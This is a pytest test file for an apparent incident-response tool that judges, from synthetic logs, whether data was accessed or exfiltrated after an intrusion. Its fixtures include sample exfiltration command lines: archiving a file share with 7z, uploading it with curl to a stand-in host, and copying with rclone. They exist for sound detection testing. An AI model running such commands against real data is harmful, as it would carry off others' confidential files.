"""Each data class and channel gets one level; comfort is given only where the records carry it."""

from __future__ import annotations

import datetime as dt
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from support.events import event, events_table
from vigilia.impact.absence import chance_after_silence, chance_of_any, chances_after_silence
from vigilia.impact.assessment import ImpactResult, assess_impact
from vigilia.impact.gaps.found_gaps import find_gaps
from vigilia.impact.locators import locator_keys
from vigilia.model.evidence import EvidenceItem
from vigilia.model.profile import DataClass, Profile
from vigilia.model.result import Impact, Intrusion, Verdict
from vigilia.store.event_store import EventStore

_DAY = dt.date(2026, 1, 1)
_CASES = DataClass(id="cases", label="Case files", where=["sharepoint:https://example.sharepoint.com/sites/Cases"])
_DONORS = DataClass(id="donors", label="Donors", where=["share:\\\\FS01\\Donors"])
_MAIL = DataClass(id="mail", label="Director's mail", where=["mailbox:Ada@example.org"])


def _intrusion(first: int = 20, last: int = 30, verdict: Verdict = "intrusion") -> Intrusion:
    return Intrusion(
        verdict=verdict,
        probability=0.95,
        first_seen=f"{_DAY + dt.timedelta(days=first)}T08:00:00.000000Z",
        last_seen=f"{_DAY + dt.timedelta(days=last)}T18:00:00.000000Z",
        dwell_days=float(last - first),
        accounts=[],
        addresses=[],
        hosts=[],
        sessions=[],
    )


def _at(day: int, hour: int = 10) -> str:
    return f"{_DAY + dt.timedelta(days=day)}T{hour:02}:00:00+00:00"


def _cloud(day: int, action: str, where: str, provider: str = "SharePoint", **fields: str) -> dict[str, Any]:
    return event(
        0, at=_at(day), event__action=action, event__provider=provider, vigilia__objects=[where], fields=fields
    )


def _share_read(day: int, path: str, **columns: Any) -> dict[str, Any]:
    return event(
        0,
        at=_at(day),
        vigilia__source="windows",
        event__code="5145",
        event__action="5145",
        event__provider="Security",
        host__name="FS01.example.org",
        vigilia__objects=[f"share:\\\\FS01\\{path}"],
        **columns,
    )


def _background(days: range = range(60)) -> list[dict[str, Any]]:
    """Everyday work in all channels, every day; sharing and content searches now and then."""
    site = "sharepoint:https://example.sharepoint.com/sites/Everyday/a.docx"
    rows = [_cloud(day, "FileAccessed", site) for day in days]
    for name in ("ada", "bo"):
        rows += [_cloud(day, "MailItemsAccessed", f"mailbox:{name}@example.org", "Exchange") for day in days]
    rows += [_cloud(day, "SharingSet", site) for day in days if day % 7 == 0]
    rows += [_cloud(day, "SearchStarted", "", "SecurityComplianceCenter") for day in days if day % 7 == 1]
    rows += [_cloud(day, "Set-Mailbox", "", "Exchange") for day in days if day % 7 == 2]
    rows += [_share_read(day, "Everyday\\a.docx") for day in days]
    return rows


def _assess(
    background: list[dict[str, Any]],
    intruder: list[dict[str, Any]],
    classes: list[DataClass],
    chance: float = 0.95,
    intrusion: Intrusion | None = None,
    items: list[EvidenceItem] | None = None,
) -> ImpactResult:
    table = events_table([event(10_000, at=_at(0)), *background, *intruder])
    ids = table["event.id"].to_pylist()[1 + len(background) :]
    marked = pa.table(
        {"event.id": pa.array(ids, pa.string()), "probability": pa.array([chance] * len(ids), pa.float64()),
         "reason": pa.array(["test"] * len(ids), pa.string())}
    )  # fmt: skip
    profile = Profile(data=classes)
    seen = intrusion or _intrusion()
    with EventStore.from_table(table) as store:
        store.register("intruder_events", marked)
        return assess_impact(store, items or [], find_gaps(store, items or [], profile, seen), seen, profile)


_GRAVITY = ("E0", "E1", "E2", "E4", "E3", "E5")
_CHANNEL = {
    "mailbox": "mail-read",
    "sharepoint": "sharepoint-download",
    "share": "share-read",
    "table": "database-dump",
}


def _gravest(result: ImpactResult, data_class: str, channel: str) -> Impact:
    rows = [row for row in result.impact if (row.data_class, row.channel) == (data_class, channel)]
    return min(rows, key=lambda row: _GRAVITY.index(row.level))


def _one(
    background: list[dict[str, Any]],
    intruder: list[dict[str, Any]],
    classes: list[DataClass],
    chance: float = 0.95,
    *,
    channel: str = "",
    **more: Any,
) -> Impact:
    """The gravest slice of one class in one channel; by default the one that reads where the class is kept."""
    result = _assess(background, intruder, classes, chance, **more)
    return _gravest(result, classes[0].id, channel or _CHANNEL[classes[0].where[0].partition(":")[0]])


def test_a_recorded_download_is_exfiltration_of_that_class_only() -> None:
    taken = _cloud(22, "FileDownloaded", "sharepoint:https://EXAMPLE.sharepoint.com/sites/cases/2026/x.docx")
    other = DataClass(id="o", label="Other", where=["sharepoint:https://example.sharepoint.com/sites/Case"])
    result = _assess(_background(), [taken], [_CASES, other])
    cases, neighbour = (_gravest(result, name, "sharepoint-download") for name in ("cases", "o"))
    assert (cases.level, cases.objects_count) == ("E0", 1)
    assert cases.event_ids
    assert neighbour.level == "E3", "a path is matched at its borders, not in the middle of a name"


def test_what_left_is_dated_and_counted_by_the_records_of_taking_not_by_those_of_reading() -> None:
    site = "sharepoint:https://example.sharepoint.com/sites/Cases/"
    reads = [_cloud(20, "FileAccessed", f"{site}{name}.docx") for name in "abc"]
    takes = [_cloud(day, "FileDownloaded", f"{site}{name}.docx") for day, name in ((25, "a"), (26, "a"), (27, "b"))]
    row = _one(_background(), [*reads, *takes], [_CASES])
    assert (row.level, row.objects_count) == ("E0", 2)
    assert "2 different objects (3 downloads) from 26 January to 28 January 2026" in row.statement
    once = _one(_background(), [*reads, takes[0]], [_CASES])
    assert "synchronised 1 object on 26 January 2026" in once.statement


@pytest.mark.parametrize(("chance", "level"), [(0.95, "E0"), (0.6, "E1"), (0.3, "E4"), (0.1, "E3")])
def test_an_uncertain_download_is_never_shown_as_certain_nor_as_silence(chance: float, level: str) -> None:
    taken = _cloud(22, "FileDownloaded", "sharepoint:https://example.sharepoint.com/sites/Cases/x.docx")
    assert _one(_background(), [taken], [_CASES], chance).level == level


def test_reading_a_document_is_access_with_the_window_printed() -> None:
    read = _cloud(22, "FileAccessed", "sharepoint:https://example.sharepoint.com/sites/Cases/x.docx")
    row = _one(_background(), [read], [_CASES])
    assert row.level == "E2"
    assert "No evidence that it left by this channel was found" in row.statement
    assert "cover 11 of the 11 calendar days from 21 January to 31 January 2026 (100 %)" in row.statement
    assert "Channels in use for this content: 5; with records that suffice: 5." in row.statement
    assert " %) that some of it left this way." in row.statement


def test_percent_signs_in_an_address_do_not_hide_its_documents() -> None:
    where = "sharepoint:https://example.sharepoint.com/sites/Cases/Shared%20Documents"
    read = _cloud(22, "FileAccessed", "sharepoint:https://example.sharepoint.com/sites/Cases/Shared Documents/x.docx")
    assert _one(_background(), [read], [DataClass(id="c", label="C", where=[where])]).level == "E2"


def test_a_failed_attempt_reaches_nothing() -> None:
    tried = _share_read(22, "Donors\\x.xlsx", event__outcome="failure")
    assert _one(_background(), [tried], [_DONORS]).level == "E3"


def test_reading_a_share_from_inside_is_access_and_from_outside_is_probably_leaving() -> None:
    inside = _share_read(22, "Donors\\x.xlsx", source__ip="10.0.0.7")
    outside = _share_read(22, "Donors\\x.xlsx", source__ip="203.0.113.9")
    assert _one(_background(), [inside], [_DONORS]).level == "E2"
    assert _one(_background(), [outside], [_DONORS]).level == "E1"


def _command(day: int, line: str) -> dict[str, Any]:
    return event(0, at=_at(day), vigilia__source="windows", event__code="1", process__command_line=line)


def test_packing_after_reading_is_told_and_packing_with_egress_is_probably_leaving() -> None:
    read = _share_read(22, "Donors\\x.xlsx", source__ip="10.0.0.7")
    pack = _command(23, 'C:\\Tools\\7z.exe a c:\\temp\\a.7z "\\\\FS01\\Donors"')
    send = _command(24, "curl -T c:\\temp\\a.7z https://files.example.net/")
    packed = _one(_background(), [read, pack], [_DONORS], channel="archive-staging")
    assert packed.level == "E2"
    assert packed.probability >= 0.5
    assert "packed into archives" in packed.statement
    sent = _assess(_background(), [read, pack, send], [_DONORS])
    assert _gravest(sent, "donors", "archive-staging").level == "E1"
    assert _gravest(sent, "donors", "web-upload").level == "E1"
    assert _gravest(sent, "donors", "share-read").level == "E2"


def test_carrying_away_is_found_behind_any_number_of_commands_that_pack() -> None:
    """An intruder who packs thousands of times does not hide the one upload that follows."""
    read = _share_read(22, "Donors\\x.xlsx", source__ip="10.0.0.7")
    pack = _command(23, "rar a d.rar .")
    send = _command(24, "rclone copy d.rar remote:")
    assert _one(_background(), [read, *[pack] * 5100, send], [_DONORS], channel="web-upload").level == "E1"


def test_an_archive_fetched_from_the_web_server_is_egress() -> None:
    read = _share_read(22, "Donors\\x.xlsx", source__ip="10.0.0.7")
    pack = _command(23, "rar a d.rar .")
    fetch = event(
        0,
        at=_at(24),
        vigilia__source="web.access",
        url__original="/images/d.RAR?x=1",
        http__response__status_code=200,
        vigilia__bytes=5_000_000,
    )
    assert _one(_background(), [read, pack, fetch], [_DONORS], channel="web-upload").level == "E1"


def _mail(day: int, kind: str, **fields: Any) -> dict[str, Any]:
    return event(
        0,
        at=_at(day),
        event__action="MailItemsAccessed",
        event__provider="Exchange",
        vigilia__objects=["mailbox:ada@example.org"],
        fields={"OperationProperties.MailAccessType": kind} | fields,
    )


def test_opened_messages_are_access_and_are_counted_by_message_id() -> None:
    ids = {"Folders.FolderItems.InternetMessageId": ["<1@example.org>", "<2@example.org>"]}
    again = {"Folders.FolderItems.InternetMessageId": "<2@example.org>"}
    row = _one(_background(), [_mail(22, "Bind", **ids), _mail(23, "Bind", **again)], [_MAIL])
    assert (row.level, row.objects_count) == ("E2", 2)


def test_synchronising_a_mailbox_is_probably_leaving() -> None:
    assert _one(_background(), [_mail(22, "Sync")], [_MAIL], channel="mail-sync").level == "E1"


def test_reading_while_throttled_means_assume_all_of_it() -> None:
    throttled = _mail(22, "Bind", **{"OperationProperties.IsThrottled": "True"})
    assert _one(_background(), [throttled], [_MAIL]).level == "E1"


def test_a_throttled_day_of_the_mailbox_forbids_comfort_and_that_of_another_does_not() -> None:
    own = _mail(22, "Bind", **{"OperationProperties.IsThrottled": "True"})
    assert _one([*_background(), own], [], [_MAIL]).level == "E4"
    other = _cloud(22, "MailItemsAccessed", "mailbox:bo@example.org", "Exchange")
    other["vigilia.fields"] = '{"OperationProperties.IsThrottled": "True"}'
    assert _one([*_background(), other], [], [_MAIL]).level == "E3"


def test_what_applications_read_of_a_mailbox_is_vouched_for_by_records_of_mailboxes_alone() -> None:
    files_only = [row for row in _background() if row["event.action"] != "MailItemsAccessed"]
    consents = [_cloud(day, "Consent to application.", "", "AzureActiveDirectory") for day in range(60)]
    assert _one([*files_only, *consents], [], [_MAIL], channel="oauth-app").level == "E4"
    assert _one([*_background(), *consents], [], [_MAIL], channel="oauth-app").level == "E3"
    assert _one([*files_only, *consents], [], [_CASES], channel="oauth-app").level == "E3"
    own = _mail(22, "Bind", **{"OperationProperties.IsThrottled": "True"})
    assert _one([*_background(), own], [], [_MAIL], channel="oauth-app").level == "E4"


def test_a_forwarding_rule_is_probably_leaving_and_a_sorting_rule_is_not() -> None:
    def rule(**fields: str) -> dict[str, Any]:
        return event(
            0,
            at=_at(22),
            event__action="New-InboxRule",
            event__provider="Exchange",
            user__name="ada@example.org",
            fields=fields,
        )

    forwards, sorts = rule(**{"Parameters.ForwardTo": "x@example.net"}), rule(**{"Parameters.MoveToFolder": "RSS"})
    assert _one(_background(), [forwards], [_MAIL], channel="mail-forwarding").level == "E1"
    assert _one(_background(), [sorts], [_MAIL], channel="mail-forwarding").level == "E3"


def test_an_exported_content_search_may_hold_any_mailbox_or_document() -> None:
    export = event(0, at=_at(22), event__action="SearchExportDownloaded", event__provider="SecurityComplianceCenter")
    result = _assess(_background(), [export], [_MAIL, _CASES, _DONORS])
    assert [_gravest(result, name, "ediscovery-export").level for name in ("mail", "cases")] == ["E1", "E1"]
    assert _gravest(result, "donors", "share-read").level == "E3"
    named = event(0, at=_at(22), event__action="SearchExportDownloaded", fields={"ExchangeLocations": "bo@example.org"})
    result = _assess(_background(), [named], [_MAIL, _CASES])
    assert [_gravest(result, name, "ediscovery-export").level for name in ("mail", "cases")] == ["E3", "E3"]


def test_silence_of_whole_records_is_no_evidence_and_never_certainty() -> None:
    row = _one(_background(), [], [_DONORS])
    assert row.level == "E3"
    assert row.window_covered == 1.0
    assert 0 < row.probability < 0.2
    assert "no evidence that it left by this channel" in row.statement


@pytest.mark.parametrize(
    ("days", "words"),
    [
        (range(0), "there is no record"),
        (range(25, 60), "from 21 January to 26 January 2026: whether"),
        (range(26), "from 26 January to 31 January 2026: whether"),
        (range(18, 60), "may have been in before the records begin"),
    ],
)
def test_no_comfort_where_records_are_missing(days: range, words: str) -> None:
    """Whatever part of the window lacks records: the level is E4, the reason is told, and no evidence isn't claimed."""
    row = _one(_background(days), [], [_DONORS])
    assert row.level == "E4"
    assert words in row.statement
    assert "No evidence" not in row.statement
    assert "no evidence" not in row.statement


def test_no_comfort_after_the_log_was_cleared() -> None:
    cleared = event(
        0,
        at=_at(25),
        vigilia__source="windows",
        event__code="1102",
        event__provider="Security",
        host__name="FS01.example.org",
    )
    assert _one([*_background(), cleared], [], [_DONORS]).level == "E4"


def test_no_comfort_where_part_of_the_log_could_not_be_read() -> None:
    lost = EvidenceItem(item="", path="fs01.evtx", sha256="", bytes=1, status="quarantined")
    assert _one(_background(), [], [_DONORS], items=[lost]).level == "E4"


def test_a_place_of_a_kind_without_a_reader_cannot_be_determined() -> None:
    assert _one(_background(), [], [DataClass(id="crm", label="CRM", where=["table:crm.donors"])]).level == "E4"


@settings(max_examples=15, deadline=None)
@given(st.sets(st.integers(0, 59)), st.sampled_from([_CASES, _DONORS, _MAIL]))
def test_e3_is_never_given_when_a_day_at_either_end_lacks_records(missing: set[int], data_class: DataClass) -> None:
    days = [day for day in range(60) if day not in missing]
    rows = [row for day in days for row in _background(range(day, day + 1))]
    row = _one(rows, [], [data_class])
    covered_from = min(days, default=99)
    covered_to = max(days, default=-1)
    if covered_from > 13 or covered_to < 30:
        assert row.level == "E4"


def test_nobody_found_gives_no_level_and_no_all_clear() -> None:
    result = _assess(_background(), [], [_DONORS], intrusion=_intrusion(verdict="none-found"))
    assert result.impact == []
    only, overview, *exports = result.statements
    assert overview.text.startswith("Export logs before they expire, the soonest first: ")
    assert "no proof that nothing was reached" in only.text
    assert only.gap_ids
    assert exports, "what to export next is said"
    assert {one.question for one in exports} == {"what-now"}
    assert all(one.text.startswith("Export: ") for one in exports)


def test_without_a_profile_the_built_in_classes_are_rated_and_the_profile_is_asked_for() -> None:
    result = _assess(_background(), [_mail(22, "Bind")], [])
    assert list(dict.fromkeys(row.data_class for row in result.impact)) == ["mail", "documents", "shares"]
    assert _gravest(result, "mail", "mail-read").level == "E2"
    assert _gravest(result, "documents", "sharepoint-download").level == "E3"
    assert _gravest(result, "shares", "share-read").level == "E3"
    assert any("org.toml" in one.text for one in result.statements)


def test_statements_have_one_headline_each_row_counsel_and_numbered_ids() -> None:
    result = _assess(_background(), [_mail(22, "Bind")], [_MAIL, _DONORS])
    assert [one.id for one in result.statements] == [f"impact-{n}" for n in range(1, len(result.statements) + 1)]
    assert [one.weight for one in result.statements].count("headline") == 1
    said = [one.text for one in result.statements]
    for row in result.impact:
        body = row.statement.removeprefix(f"“{row.label}”, {row.channel_label}: ")
        named = [text for text in said if row.label in text and text.endswith(body)]
        assert any(row.channel_label in text or "every way looked at" in text for text in named)
    counsel, overview, *exports = [one for one in result.statements if one.question == "what-now"]
    assert all(one.text.startswith("Export: ") for one in exports)
    assert {one.weight for one in exports} == {"detail"}, "what is to be done tonight is not buried under them"
    assert "Director" not in overview.text
    assert "legal counsel" in counsel.text
    assert "Director's mail" in counsel.text
    assert "Cannot be determined: “Donors”" in counsel.text


def test_rows_of_which_the_same_is_true_are_told_in_one_sentence_with_the_gaps_of_all() -> None:
    kinds = [DataClass(id=f"k{n}", label=f"Kind {n}", where=_DONORS.where) for n in range(4)]
    result = _assess(_background(range(25, 60)), [], kinds)
    told = [one for one in result.statements if one.question == "reached" and one.weight == "detail"]
    assert len(told) < len(result.impact) / 3
    assert all(one.text.startswith("“Kind 0”, “Kind 1”, “Kind 2” and “Kind 3”, ") for one in told)
    assert {gap for one in told for gap in one.gap_ids} == {gap for row in result.impact for gap in row.gap_ids}
    headline = result.statements[0].text
    assert headline.count("Kind") == 4
    assert len(headline) < 200


def test_many_kinds_of_content_are_counted_in_the_headline_not_listed() -> None:
    kinds = [DataClass(id=f"k{n}", label=f"Kind {n}", where=_DONORS.where) for n in range(9)]
    assert "and 4 more kinds of content" in _assess(_background(range(25, 60)), [], kinds).statements[0].text


@example(1.0, 1.0, 0.9999999999999999, 0.0)
@example(0.9999999999999999, 0.9999999999999999, 1.0, 0.9999999999999999)
@given(st.floats(0, 1), st.floats(0, 1), st.floats(0, 1), st.floats(0, 1))
def test_more_telemetry_never_raises_the_chance_that_data_left(
    prior: float, sensitivity: float, one: float, other: float
) -> None:
    less, more = sorted((one, other))
    assert chance_after_silence(prior, more, sensitivity) <= chance_after_silence(prior, less, sensitivity) + 1e-12
    assert chance_after_silence(prior, more, sensitivity) <= prior + 1e-12


@pytest.mark.parametrize(("covered", "left"), [(0.195, 0.45), (0.39, 0.39), (0.79, 0.22), (1.0, 0.09)])
def test_the_arithmetic_of_logs_kept_for_a_part_of_the_stay(covered: float, left: float) -> None:
    """461 days of dwell, prior one half, sensitivity 0.9: 90 days of log move the belief by five points only."""
    assert chance_after_silence(0.5, covered, 0.9) == pytest.approx(left, abs=0.006)
    sliced = chances_after_silence(0.5, [1 - covered, covered], [0.0, 0.9])
    assert sum(sliced) == pytest.approx(chance_after_silence(0.5, covered, 0.9))


@given(st.lists(st.tuples(st.floats(0.01, 1), st.floats(0, 1)), min_size=1, max_size=8), st.floats(0, 0.99))
def test_slices_sum_to_the_formula_and_silence_never_raises_a_chance(
    slices: list[tuple[float, float]], prior: float
) -> None:
    whole = sum(share for share, _ in slices)
    shares, seen = [share / whole for share, _ in slices], [found for _, found in slices]
    chances = chances_after_silence(prior, shares, seen)
    mean = sum(share * found for share, found in zip(shares, seen, strict=True))
    assert sum(chances) == pytest.approx(chance_after_silence(prior, mean, 1.0), abs=1e-9)
    assert sum(chances) <= prior + 1e-9


def test_chances_of_several_ways_multiply() -> None:
    assert chance_of_any([0.5, 0.5]) == pytest.approx(0.75)


def test_a_share_is_known_by_its_servers_first_label() -> None:
    assert locator_keys("share:\\\\FS01.example.org\\Donors\\") == ["share://fs01/donors"]
    assert locator_keys("share:\\\\192.0.2.4\\Donors") == ["share://192.0.2.4/donors"]


def test_undetermined_is_never_printed_as_unlikely_because_of_a_guess() -> None:
    """A number of ours beside "cannot be determined" would be taken for an answer."""
    row = _one(_background(range(0)), [], [_DONORS])
    assert row.level == "E4"
    assert "likely" not in row.statement
    assert "chance" not in row.statement


def test_the_chances_of_silent_channels_and_slices_never_exceed_the_prior_of_their_content() -> None:
    """Ten channels without records are not ten doubts."""
    result = _assess(_background(range(0)), [], [_DONORS])
    assert sum(row.probability for row in result.impact) == pytest.approx(0.3, abs=0.05)


def test_a_file_server_of_the_profile_is_held_against_the_intrusion() -> None:
    result = _assess(_background(range(26, 60)), [], [_DONORS])
    assert result.impact[0].gap_ids


def test_a_class_touched_in_two_channels_gets_their_joint_chance_and_silent_ones_get_none() -> None:
    both = DataClass(id="c", label="Case files", where=[*_CASES.where, *_MAIL.where, *_DONORS.where])
    read = _cloud(22, "FileAccessed", "sharepoint:https://example.sharepoint.com/sites/Cases/x.docx")
    touched = [one.text for one in _assess(_background(), [read, _mail(22, "Bind")], [both]).statements]
    assert any("by one of the 2 channels in which it was touched" in text for text in touched)
    silent = [one.text for one in _assess(_background(), [], [both]).statements]
    assert not any("in which it was touched" in text for text in silent)
